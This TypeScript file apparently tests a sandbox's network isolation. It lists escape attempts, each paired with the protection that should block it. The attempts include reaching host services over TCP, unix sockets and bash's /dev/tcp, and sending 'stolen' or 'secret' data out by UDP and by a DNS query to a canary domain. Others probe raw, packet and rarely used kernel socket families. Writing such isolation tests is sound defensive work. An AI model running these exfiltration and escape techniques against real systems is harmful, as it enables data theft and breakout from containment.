import { connect } from "node:net";
import { type Arena, soon } from "../arena.ts";
import type { Attempt } from "../attempt.ts";

const tcp = (family: string, address: string, port: number) => `
import socket
s = socket.socket(socket.${family}, socket.SOCK_STREAM); s.settimeout(2)
s.connect(("${address}", ${port})); print(s.recv(100).decode())`;

const prints = async (arena: Arena, program: string, text: string) => (await arena.python(program)).includes(text);

/** A query for `name` as a resolver library would send it. */
const dnsQuery = (name: string, port: number) => `
import socket, struct
q = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0)
for label in "${name}".split("."): q += bytes([len(label)]) + label.encode()
q += b"\\0" + struct.pack(">HH", 1, 1)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ("127.0.0.1", ${port}))`;

const opens =
  (family: number, type: string, protocol = 0) =>
  async (arena: Arena) =>
    prints(
      arena,
      `import socket\nsocket.socket(${family}, socket.${type}, ${protocol}); print("op" + "ened")`,
      "opened",
    );

/**
 * Whether a call for these families comes to the kernel. With a type that no family has, the kernel answers EINVAL before
 * it looks for the family: so it can be told from the filter's answer on kernels that were built without the family, too.
 */
const reachesFamily = (arena: Arena, families: string) =>
  prints(
    arena,
    `
import errno, socket
for family in ${families}:
    try: socket.socket(family, 15, 0)
    except OSError as e: print("reached the ker" + "nel" if e.errno == errno.EINVAL else e, family)`,
    "reached the kernel",
  );

export const network: readonly Attempt[] = [
  {
    name: "TCP to a service of the host on 127.0.0.1",
    group: "network",
    short: true,
    without: ["network namespace"],
    reach: (arena) => prints(arena, tcp("AF_INET", "127.0.0.1", arena.host.tcpPort), arena.host.flag),
  },
  {
    name: "TCP over IPv6 to a service of the host on ::1",
    group: "network",
    without: ["network namespace"],
    reach: (arena) => prints(arena, tcp("AF_INET6", "::1", arena.host.tcp6Port), arena.host.flag),
  },
  {
    name: "TCP to the host's own LAN address",
    group: "network",
    without: ["network namespace"],
    reach: ({ python, host }) =>
      python(tcp("AF_INET", host.lanAddress ?? "127.0.0.2", host.tcpPort)).then((out) => out.includes(host.flag)),
  },
  {
    name: "TCP through bash's /dev/tcp",
    group: "network",
    without: ["network namespace"],
    reach: async (arena) => {
      const sandbox = await arena.sandbox();
      const run = await sandbox.exec(`cat < /dev/tcp/127.0.0.1/${arena.host.tcpPort}`);
      return run.stdout.includes(arena.host.flag);
    },
  },
  {
    name: "UDP datagram to the host",
    group: "network",
    short: true,
    without: ["network namespace"],
    reach: async (arena) => {
      const word = `stolen-${Math.random()}`;
      await arena.python(`
import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"${word}", ("127.0.0.1", ${arena.host.udpPort}))`);
      return soonArrived(arena, word);
    },
  },
  {
    name: "code carried out in a DNS query",
    group: "network",
    without: ["network namespace"],
    reach: async (arena) => {
      const word = `secret${Math.floor(Math.random() * 1e9)}`;
      await arena.python(dnsQuery(`${word}.canary.example`, arena.host.udpPort));
      return soonArrived(arena, word);
    },
  },
  {
    name: "abstract unix socket of the host",
    group: "network",
    short: true,
    without: ["network namespace"],
    reach: (arena) =>
      prints(
        arena,
        `
import socket
s = socket.socket(socket.AF_UNIX); s.connect("\\0${arena.host.abstractSocket}"); print(s.recv(100).decode())`,
        arena.host.flag,
      ),
  },
  {
    name: "unix socket file of the host (a container engine's, say)",
    group: "network",
    without: ["private root"],
    reach: (arena) =>
      prints(
        arena,
        `
import socket
for start in ("", "/host"):
    try:
        s = socket.socket(socket.AF_UNIX); s.connect(start + "${arena.host.unixSocket}"); print(s.recv(100).decode())
    except OSError as e: print(e)`,
        arena.host.flag,
      ),
  },
  {
    name: "listening on a port that the host can reach",
    group: "network",
    without: ["network namespace"],
    reach: async (arena) => {
      const sandbox = await arena.sandbox();
      const port = 20_000 + Math.floor(Math.random() * 20_000);
      const program = `
import socket
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", ${port})); s.listen(); s.settimeout(3); s.accept()[0].send(b"from inside ${port}")`;
      await sandbox.writeFile("attempt.py", program);
      const running = sandbox.exec("python3 attempt.py");
      let reached = false;
      let over = false;
      running.finally(() => {
        over = true;
      });
      while (!reached && !over) reached = await connects(port, `from inside ${port}`);
      await running;
      return reached;
    },
  },
  {
    name: "vsock socket (to the hypervisor)",
    group: "network",
    short: true,
    without: ["seccomp socket-family"],
    reach: opens(40, "SOCK_STREAM"),
  },
  {
    name: "netlink socket (the kernel's configuration)",
    group: "network",
    short: true,
    without: ["seccomp socket-family"],
    reach: opens(16, "SOCK_RAW"),
  },
  ...[
    { family: 38, what: "AF_ALG socket (the kernel's ciphers, a door that had holes)" },
    { family: 44, what: "AF_XDP socket (frames past the network stack)" },
    { family: 15, what: "AF_KEY socket (IPsec's keys)" },
    { family: 29, what: "AF_CAN socket (a bus with a record of holes)" },
    { family: 30, what: "AF_TIPC socket (clusters; remote holes)" },
    { family: 21, what: "AF_RDS socket (holes that gave root)" },
  ].map(
    ({ family, what }): Attempt => ({
      name: what,
      group: "network",
      without: ["seccomp socket-family"],
      reach: async (arena) => reachesFamily(arena, `[${family}]`),
    }),
  ),
  {
    name: "a socket of any other family (43 tried)",
    group: "network",
    without: ["seccomp socket-family"],
    reach: async (arena) => reachesFamily(arena, "[f for f in range(46) if f not in (1, 2, 10)]"),
  },
  {
    name: "packet socket (raw frames)",
    group: "network",
    without: ["seccomp socket-family", "no capabilities", "no nested user namespaces"],
    reach: opens(17, "SOCK_RAW"),
  },
  {
    name: "raw ICMP socket (ping tunnel)",
    group: "network",
    without: ["seccomp socket-protocol", "no capabilities", "no nested user namespaces"],
    reach: opens(2, "SOCK_RAW", 1),
  },
  {
    name: "raw ICMPv6 socket",
    group: "network",
    without: ["seccomp socket-protocol", "no capabilities", "no nested user namespaces"],
    reach: opens(10, "SOCK_RAW", 58),
  },
  {
    name: "rare protocol that makes the kernel load code (MPTCP)",
    group: "network",
    without: ["seccomp socket-protocol"],
    reach: opens(2, "SOCK_STREAM", 262),
  },
  ...["curl", "wget"].map(
    (program): Attempt => ({
      name: `the program ${program}`,
      group: "network",
      without: ["masked network programs"],
      reach: async (arena) => (await (await arena.sandbox()).exec(`${program} --version`)).exitCode === 0,
    }),
  ),
];

async function soonArrived({ host }: Arena, word: string): Promise<boolean> {
  return soon(() => host.arrivals.some((arrival) => arrival.includes(word)));
}

/** Whether the listener inside answers; another program that happens to have the port would not say its word. */
function connects(port: number, word: string): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = connect({ port, host: "127.0.0.1", timeout: 200 });
    const finish = (reached: boolean) => {
      socket.destroy();
      resolve(reached);
    };
    socket.once("data", (data) => finish(data.toString().includes(word)));
    socket.once("timeout", () => finish(false));
    socket.once("error", () => finish(false));
    socket.once("close", () => finish(false));
  });
}
